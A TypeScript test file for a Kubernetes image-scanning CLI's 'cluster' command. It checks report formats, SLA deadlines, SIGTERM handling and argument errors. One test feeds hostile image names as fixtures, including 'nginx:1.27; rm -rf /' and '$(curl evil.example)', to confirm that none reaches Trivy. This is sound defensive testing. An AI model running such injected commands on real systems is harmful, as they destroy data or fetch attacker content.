// `shipshape cluster`, against the test API server (test/support/apiServer.ts) and the stand-in Trivy.

import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import * as assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { runCli } from '../support/cli.js';
import { corpusPods, expectedImages, generatePods, startApiServer, writeKubeconfig, type ApiServer } from '../support/apiServer.js';
import { imageScans, isAlive, STAND_IN, standInLog } from '../support/trivy.js';

const execFileAsync = promisify(execFile);
const CLI = path.resolve(__dirname, '..', '..', 'dist', 'cli.js');

describe('shipshape cluster', () => {
  let server: ApiServer;
  let dir: string;
  let kubeconfig: string;
  const saved = process.env['SHIPSHAPE_CACHE_DIR'];
  before(async () => {
    server = await startApiServer({
      pods: [...generatePods({ count: 30, distinctImages: 6, namespaces: ['shop', 'payments'], seed: 3 }), ...corpusPods()],
    });
    kubeconfig = writeKubeconfig(server);
  });
  after(() => server.stop());
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'shipshape-cluster-'));
    process.env['SHIPSHAPE_CACHE_DIR'] = dir;
  });
  afterEach(() => {
    if (saved === undefined) delete process.env['SHIPSHAPE_CACHE_DIR'];
    else process.env['SHIPSHAPE_CACHE_DIR'] = saved;
    rmSync(dir, { recursive: true, force: true });
  });

  const cluster = (...args: string[]) =>
    runCli(['cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), ...args]);

  test('JSON: images with digests, workloads and counts; findings with deadlines, worst first', async () => {
    const run = await cluster('--format', 'json');
    assert.equal(run.code, 0, run.stderr);
    const report = JSON.parse(run.stdout) as {
      images: { reference: string; digest?: string; workloads: unknown[]; vulnerabilities?: Record<string, number> }[];
      findings: { severity: string; deadline: string; breached: boolean; firstSeen: string }[];
    };
    assert.equal(report.images.length, expectedImages(server.pods()).size);
    assert.ok(report.images.every((i) => i.workloads.length > 0 && i.vulnerabilities));
    assert.ok(report.findings.length > 0);
    const order = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW', 'UNKNOWN'];
    for (let i = 1; i < report.findings.length; i++) {
      const [a, b] = [report.findings[i - 1]!, report.findings[i]!];
      assert.ok(order.indexOf(a.severity) < order.indexOf(b.severity) || (a.severity === b.severity && a.deadline <= b.deadline));
    }
    assert.ok(report.findings.every((f) => !f.breached));
  });

  test('first-seen dates survive between runs; --fail-on-breach with --from-published exits 1', async () => {
    const first = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
    const second = JSON.parse((await cluster('--format', 'json')).stdout) as { findings: { firstSeen: string }[] };
    assert.deepEqual(
      second.findings.map((f) => f.firstSeen),
      first.findings.map((f) => f.firstSeen),
    );
    const breach = await cluster('--from-published', '--fail-on-breach', '--format', 'csv');
    assert.equal(breach.code, 1);
    assert.match(
      breach.stdout.split('\r\n')[0]!,
      /^image,digest,namespaces,workloads,vulnerability,severity,package,installed,fixed,first seen,deadline,breached$/,
    );
    assert.match(breach.stdout, /,true\r\n/);
  });

  test('markdown, SARIF and table formats; --output writes the file', async () => {
    assert.match((await cluster('--format', 'markdown')).stdout, /^# Shipshape cluster report: shipshape-test/);
    const sarif = JSON.parse((await cluster('--format', 'sarif')).stdout) as { version: string; runs: { results: unknown[] }[] };
    assert.equal(sarif.version, '2.1.0');
    assert.ok(sarif.runs[0]!.results.length > 0);
    assert.match((await cluster()).stdout, /^Cluster shipshape-test \(https:\/\/127\.0\.0\.1:\d+\): \d+ pods, \d+ distinct images/);
  });

  test("the built CLI's SARIF names this build's version (the one in package.json)", async () => {
    const { version } = JSON.parse(readFileSync(path.resolve(__dirname, '..', '..', 'package.json'), 'utf8')) as { version: string };
    const { stdout } = await execFileAsync(
      process.execPath,
      [CLI, 'cluster', '--kubeconfig', kubeconfig, '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'sarif'],
      { env: process.env, maxBuffer: 64 * 1024 * 1024 },
    );
    const sarif = JSON.parse(stdout) as { runs: { tool: { driver: { name: string; version: string } } }[] };
    assert.deepEqual(sarif.runs[0]!.tool.driver, { ...sarif.runs[0]!.tool.driver, name: 'Shipshape', version });
    assert.notEqual(version, '0.0.0-dev');
  });

  test('SIGTERM (a CronJob deadline) stops the scans, writes the partial report, exits 2 and leaves no Trivy behind', async () => {
    // The built CLI in its own process: the test runner has SIGTERM handlers of its own.
    const log = standInLog({ TRIVY_STANDIN_DELAY_MS: '20000' });
    try {
      const child = spawn(
        process.execPath,
        [
          CLI,
          'cluster',
          '--kubeconfig',
          kubeconfig,
          '--trivy',
          STAND_IN,
          '--state',
          path.join(dir, 'state.json'),
          '--format',
          'json',
          '--concurrency',
          '2',
        ],
        { env: process.env },
      );
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
      for (let i = 0; i < 300 && imageScans(log.invocations()).length < 2; i++) await new Promise((r) => setTimeout(r, 50));
      assert.equal(imageScans(log.invocations()).length, 2, 'two scans are running');
      child.kill('SIGTERM');
      assert.equal(await exited, 2, stderr);
      const report = JSON.parse(stdout) as { partial?: boolean; images: unknown[]; errors: { image?: string; message: string }[] };
      assert.equal(report.partial, true);
      assert.equal(report.images.length, expectedImages(server.pods()).size, 'the listed images are all in the report');
      assert.ok(
        report.errors.some((e) => /^Cancelled: this report is partial; \d+ images were not scanned/.test(e.message)),
        JSON.stringify(report.errors),
      );
      assert.match(stderr, /this report is partial/);
      await new Promise((r) => setTimeout(r, 300));
      assert.deepEqual(
        imageScans(log.invocations())
          .filter((i) => isAlive(i.pid))
          .map((i) => i.pid),
        [],
      );
    } finally {
      log.restore();
    }
  });

  test('hostile image names from the cluster are never passed to Trivy; each is an error, the rest is scanned', async () => {
    const hostile = [
      '--output=/tmp/owned',
      'nginx:1.27; rm -rf /',
      '$(curl evil.example)',
      'nginx\n:1',
      'registry.example/app with space:1',
    ];
    const base = generatePods({ count: 4, distinctImages: 2, namespaces: ['shop'], seed: 5 });
    const evil = hostile.map((image, i) => {
      const pod = structuredClone(base[0]!);
      pod.metadata = { ...pod.metadata, name: `evil-${i}`, uid: `00000000-0000-4000-8000-00000000000${i}` };
      pod.spec!.containers = [{ ...pod.spec!.containers![0]!, image }];
      pod.status = { ...pod.status, containerStatuses: [] };
      return pod;
    });
    const hostileServer = await startApiServer({ pods: [...base, ...evil] });
    const log = standInLog();
    try {
      const run = await runCli([
        'cluster',
        '--kubeconfig',
        writeKubeconfig(hostileServer),
        '--trivy',
        STAND_IN,
        '--state',
        path.join(dir, 'state.json'),
        '--format',
        'json',
      ]);
      assert.equal(run.code, 0, run.stderr);
      const report = JSON.parse(run.stdout) as {
        images: { reference: string; vulnerabilities?: object }[];
        errors: { image?: string; message: string }[];
      };
      for (const image of hostile) {
        const error = report.errors.find((e) => e.image === image);
        assert.ok(error, `an error for ${JSON.stringify(image)}`);
        assert.match(error.message, /is not a valid image reference: not scanned/);
      }
      assert.ok(
        report.images.some((i) => i.vulnerabilities),
        'the others are scanned',
      );
      const argv = imageScans(log.invocations()).flatMap((i) => i.argv);
      assert.ok(argv.length > 0);
      for (const image of hostile) assert.ok(!argv.includes(image), `${JSON.stringify(image)} never reached a process`);
    } finally {
      log.restore();
      await hostileServer.stop();
    }
  });

  test('no cluster, bad arguments: exit 2 with the reason', async () => {
    const gone = await runCli(['cluster', '--kubeconfig', path.join(dir, 'missing.yaml')]);
    assert.equal(gone.code, 2);
    assert.match(gone.stderr, /Could not read the kubeconfig/);
    assert.equal((await cluster('--format', 'xml')).code, 2);
    assert.equal((await cluster('--sla', 'CRITICAL=soon')).code, 2);
    assert.match((await cluster('--request-timeout', '0')).stderr, /--request-timeout expects a whole number from 1 to 3600/);
  });
});
